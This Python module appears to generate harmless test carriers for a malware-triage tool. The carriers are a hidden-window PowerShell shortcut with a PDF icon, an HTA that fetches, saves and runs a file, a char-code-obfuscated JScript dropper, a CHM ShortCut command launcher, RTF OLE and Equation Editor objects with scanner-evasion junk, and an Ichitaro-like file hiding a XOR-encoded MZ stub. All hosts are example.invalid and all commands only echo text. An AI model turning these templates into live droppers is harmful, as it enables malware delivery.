"""Deterministic, harmless carriers for tests and samples: a shortcut, scripts, a CHM, an RTF, an Ichitaro-like
document and a OneNote-like container. Each one *shows* a technique; none can do anything.

- Every URL is under ``example.invalid`` (RFC 2606: never resolves); every command only echoes text.
- The "executables" are a DOS stub: ``MZ`` and the "This program cannot be run in DOS mode" string, no PE header,
  no code.
- `build_lnk` writes MS-SHLLINK bytes by hand (LnkParse3 reads but cannot write); `build_chm` writes an ITSF file
  whose pages sit uncompressed in content section 0 (hhc.exe would LZX-compress them; the format allows both).
- `onenote_like` is NOT a OneNote section OneNote can open: it is the OneNote file signature followed by
  FileDataStoreObject blocks (the part a dropper uses), enough to exercise the unpacker's parsing and bounds.
  Real OneNote droppers are tested from the corpus.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Sequence

from samplekit.cfb import build_cfb

__all__ = [
    "DOS_STUB",
    "build_chm",
    "build_lnk",
    "chm_shortcut",
    "hta_downloader",
    "ichitaro_with_mz",
    "js_dropper",
    "lnk_powershell_pdf_icon",
    "onenote_like",
    "rtf_equation",
    "rtf_object",
    "rtf_package",
    "xor",
]

SAMPLE_URL = "http://update.example.invalid/"
# A DOS header and stub message only: "MZ", e_lfanew pointing nowhere useful, no PE header, no code.
DOS_STUB = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
    + b"triage harmless sample"
)


def xor(data: bytes, key: int) -> bytes:
    return bytes(b ^ key for b in data)


# -- shortcuts ----------------------------------------------------------------------------------------------------
_LNK_CLSID = bytes.fromhex("0114020000000000c000000000000046")
_HAS_LINK_INFO, _HAS_NAME, _HAS_WORKING_DIR, _HAS_ARGUMENTS, _HAS_ICON, _IS_UNICODE = 0x2, 0x4, 0x10, 0x20, 0x40, 0x80
SW_SHOWMINNOACTIVE = 7


def _string_data(text: str) -> bytes:
    encoded = text.encode("utf-16-le")
    return struct.pack("<H", len(encoded) // 2) + encoded


def build_lnk(
    target: str,
    *,
    arguments: str = "",
    icon_location: str = "",
    icon_index: int = 0,
    working_dir: str = "",
    name: str = "",
    show_command: int = 1,
) -> bytes:
    """An MS-SHLLINK shortcut to a local path: header, LinkInfo (VolumeID + LocalBasePath), StringData."""
    flags = _HAS_LINK_INFO | _IS_UNICODE
    flags |= _HAS_NAME if name else 0
    flags |= _HAS_WORKING_DIR if working_dir else 0
    flags |= _HAS_ARGUMENTS if arguments else 0
    flags |= _HAS_ICON if icon_location else 0
    header = struct.pack(
        "<I16sIIQQQIiIHHII",
        0x4C,
        _LNK_CLSID,
        flags,
        0x20,  # FILE_ATTRIBUTE_ARCHIVE
        0,
        0,
        0,
        0,
        icon_index,
        show_command,
        0,
        0,
        0,
        0,
    )
    volume = struct.pack("<IIII", 0x11, 3, 0x1234ABCD, 0x10) + b"\x00"
    base_path = target.encode("latin-1") + b"\x00"
    info_header = 0x1C
    volume_at = info_header
    base_at = volume_at + len(volume)
    suffix_at = base_at + len(base_path)
    body = volume + base_path + b"\x00"
    link_info = struct.pack("<IIIIIII", info_header + len(body), info_header, 1, volume_at, base_at, 0, suffix_at)
    strings = b"".join(_string_data(value) for value in (name, working_dir, arguments, icon_location) if value)
    return header + link_info + body + strings + b"\x00\x00\x00\x00"


def lnk_powershell_pdf_icon(*, padding: int = 0) -> bytes:
    """A shortcut to powershell with harmless arguments, hidden window, wearing Acrobat Reader's PDF icon.

    `padding` blanks before the command push it past what Explorer's Properties dialog shows.
    """
    command = "Write-Output 'triage sample: this shortcut is harmless'"
    arguments = "-NoProfile -WindowStyle Hidden" + " " * padding + f' -Command "{command}"'
    return build_lnk(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        arguments=arguments,
        icon_location=r"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe",
        icon_index=0,
        working_dir=r"%TEMP%",
        show_command=SW_SHOWMINNOACTIVE,
    )


# -- scripts ------------------------------------------------------------------------------------------------------
def hta_downloader(url: str = SAMPLE_URL) -> bytes:
    """An HTA that would fetch `url` with MSXML2.XMLHTTP, save it with ADODB.Stream and run it (harmless: the
    host cannot resolve, and the "payload" name is a text file echoed by cmd)."""
    return f"""<html>
<head>
<title>Invoice viewer</title>
<hta:application id="viewer" applicationname="viewer" windowstate="minimize" showintaskbar="no" />
<script language="VBScript">
Sub Window_OnLoad
  Dim http, stream, shell, path
  Set http = CreateObject("MSXML2.XMLHTTP")
  http.Open "GET", "{url}update.txt", False
  http.Send
  path = CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) & "\\update.txt"
  Set stream = CreateObject("ADODB.Stream")
  stream.Type = 1
  stream.Open
  stream.Write http.responseBody
  stream.SaveToFile path, 2
  Set shell = CreateObject("WScript.Shell")
  shell.Run "cmd.exe /c type " & path, 0
  window.close
End Sub
</script>
</head>
<body></body>
</html>
""".replace("\n", "\r\n").encode("ascii")


def js_dropper(url: str = SAMPLE_URL) -> bytes:
    """JScript that builds "WScript.Shell" from character codes and runs powershell with an encoded command
    (the command only prints text and requests `url`, which cannot resolve)."""
    command = f"Write-Output 'triage sample'; Invoke-WebRequest -Uri '{url}' -UseBasicParsing | Out-Null"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode("ascii")
    codes = ",".join(str(ord(c)) for c in "WScript.Shell")
    return (
        f"var p = String.fromCharCode({codes});\r\n"
        f'var s = "pow" + "ershell" + ".exe";\r\n'
        f"var sh = new ActiveXObject(p);\r\n"
        f'sh.Run(s + " -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}", 0);\r\n'
    ).encode("ascii")


# -- CHM ----------------------------------------------------------------------------------------------------------
def _encint(value: int) -> bytes:
    out = [value & 0x7F]
    value >>= 7
    while value:
        out.append(0x80 | (value & 0x7F))
        value >>= 7
    return bytes(reversed(out))


def build_chm(pages: Sequence[tuple[str, bytes]]) -> bytes:
    """An ITSF v3 file with `pages` (name, bytes) stored uncompressed in content section 0, one PMGL chunk."""
    chunk_size = 0x1000
    content = b""
    entries = b""
    for name, data in [("/", b""), *pages]:
        offset = len(content) if data else 0
        content += data
        raw = name.encode("utf-8")
        entries += _encint(len(raw)) + raw + _encint(0) + _encint(offset) + _encint(len(data))
    if 0x14 + len(entries) > chunk_size:
        raise ValueError("too many pages for one directory chunk")
    free = chunk_size - 0x14 - len(entries)
    pmgl = b"PMGL" + struct.pack("<Iiii", free, 0, -1, -1) + entries + b"\x00" * free
    guid_dir = bytes.fromhex("6a92025d2e21d0119df900a0c922e6ec")
    itsp = b"ITSP" + struct.pack("<IIIIIIiiiiI", 1, 0x54, 0x0A, chunk_size, 2, 1, -1, 0, 0, -1, 1)
    itsp += struct.pack("<I", 0x409) + guid_dir + struct.pack("<Iiii", 0x54, -1, -1, -1)
    header_len = 0x60
    section0 = struct.pack("<IIQII", 0x1FE, 0, 0, 0, 0)
    dir_offset = header_len + len(section0)
    directory = itsp + pmgl
    content_offset = dir_offset + len(directory)
    total = content_offset + len(content)
    section0 = struct.pack("<IIQII", 0x1FE, 0, total, 0, 0)
    guid1 = bytes.fromhex("10fd017caa7bd0119e0c00a0c922e6ec")
    guid2 = bytes.fromhex("11fd017caa7bd0119e0c00a0c922e6ec")
    header = b"ITSF" + struct.pack("<IIIII", 3, header_len, 1, 0, 0x409) + guid1 + guid2
    header += struct.pack("<QQQQQ", header_len, len(section0), dir_offset, len(directory), content_offset)
    return header + section0 + directory + content


def chm_shortcut(command: str = "cmd.exe,/c echo triage harmless sample") -> bytes:
    """A help file whose page holds the HTML Help ShortCut control: opening the page would run `command`."""
    page = f"""<html><head><title>Help</title></head><body>
<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut">
<PARAM name="Button" value="Bitmap::shortcut">
<PARAM name="Item1" value="{command}">
<PARAM name="Item2" value="273,1,1">
</OBJECT>
<SCRIPT>x.Click();</SCRIPT>
</body></html>
""".encode("ascii")
    return build_chm([("/index.htm", page), ("/readme.txt", b"harmless help text\r\n")])


# -- RTF ----------------------------------------------------------------------------------------------------------
def _ole1_object(class_name: str, native: bytes) -> bytes:
    """An OLE 1.0 embedded object (what \\objdata holds): version, format 2, class name, empty topic/item, data."""
    name = class_name.encode("ascii") + b"\x00"
    return (
        struct.pack("<II", 0x0501, 2)
        + struct.pack("<I", len(name))
        + name
        + struct.pack("<I", 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", len(native))
        + native
    )


def rtf_object(class_name: str, native: bytes, *, hex_junk: bool = False) -> bytes:
    """An RTF document with one embedded object of `class_name`; `hex_junk` splits \\objdata hex with blanks
    and a bogus control word, as exploit kits do to defeat naive scanners."""
    hexdata = _ole1_object(class_name, native).hex()
    if hex_junk:
        hexdata = "\r\n".join(
            " ".join(hexdata[i : i + 8] for i in range(j, min(j + 64, len(hexdata)), 8))
            for j in range(0, len(hexdata), 64)
        )
        hexdata = hexdata[:40] + "{\\*\\bogus0 }" + hexdata[40:80] + "{\\*\\bogus1 }" + hexdata[80:]
    return (
        "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"
        "\\pard Quarterly report (triage harmless sample)\\par\r\n"
        f"{{\\object\\objemb\\objw1\\objh1{{\\*\\objclass {class_name}}}{{\\*\\objdata {hexdata}}}}}\r\n"
        "}\r\n"
    ).encode("ascii")


def rtf_package(name: str, payload: bytes) -> bytes:
    """An RTF with an OLE Package object carrying `payload` under `name` (the dropper pattern: a double-click on
    the icon in the document opens the file)."""
    label = name.encode("cp932") + b"\x00"  # ANSI: the code page of the (Japanese) sender's Windows
    path = f"C:\\Users\\Public\\{name}".encode("cp932") + b"\x00"
    # MS-OLEDS Ole10Native as the packager writes it inside an OLE 1.0 object (no leading size field)
    native = b"\x02\x00" + label + path + struct.pack("<HHI", 0, 3, len(path)) + path
    native += struct.pack("<I", len(payload)) + payload
    return rtf_object("Package", native)


def rtf_equation(*, hex_junk: bool = False) -> bytes:
    """An RTF with an Equation.3 object (the Equation Editor class CVE-2017-11882 abused) holding harmless bytes:
    a compound file with an "Equation Native" stream of text."""
    native = build_cfb({"Equation Native": b"\x1c\x00\x00\x00\x02\x00" + b"triage harmless equation" * 4})
    return rtf_object("Equation.3", native, hex_junk=hex_junk)


# -- Ichitaro -----------------------------------------------------------------------------------------------------
def ichitaro_with_mz(*, xor_key: int | None = None, shellcode_idioms: bool = False) -> bytes:
    """An OLE file laid out like an Ichitaro document (DocumentText and friends) with a harmless DOS stub hidden
    in an extra stream, plain or XOR-encoded with `xor_key`; `shellcode_idioms` adds a NOP run, GetPC
    (call $+5; pop ebp) and a PEB read (mov eax, fs:[30h]) as inert bytes."""
    text = "会議資料をお送りします。triage harmless sample".encode("utf-16-le")
    hidden = DOS_STUB if xor_key is None else xor(DOS_STUB, xor_key)
    blob = b"\x00" * 64 + hidden + b"\x00" * 64
    if shellcode_idioms:
        blob = b"\x90" * 96 + b"\xe8\x00\x00\x00\x00\x5d" + b"\x64\xa1\x30\x00\x00\x00" + blob
    return build_cfb(
        {
            "DocumentText": b"\x00" * 16 + text,
            "DocumentViewStyles": b"\x00" * 64,
            "DocumentEditStyles": b"\x00" * 64,
            "JSRV_SegmentInformation": b"\x00" * 32,
            "\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 46,
            "Font": b"\x00" * 32,
            "OPTION_DATA": blob,
        }
    )


# -- OneNote-like -------------------------------------------------------------------------------------------------
ONENOTE_SIGNATURE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
FILE_DATA_HEADER = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
FILE_DATA_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")


def onenote_like(payloads: Sequence[bytes], *, names: Sequence[str] = ()) -> bytes:
    """The OneNote section signature, a zero-filled header, then one FileDataStoreObject per payload (header
    GUID, cbLength, unused, reserved, data, padding to a multiple of 8, footer GUID). `names` are appended as
    UTF-16LE strings, the way OneNote stores an embedded file's name in a property set. Not openable by OneNote
    (see the module docstring)."""
    out = bytearray(ONENOTE_SIGNATURE + b"\x00" * (1024 - len(ONENOTE_SIGNATURE)))
    for data in payloads:
        out += FILE_DATA_HEADER + struct.pack("<QIQ", len(data), 0, 0) + data
        out += b"\x00" * (-(36 + len(data)) % 8) + FILE_DATA_FOOTER
    for name in names:
        out += name.encode("utf-16-le") + b"\x00\x00"
    return bytes(out)
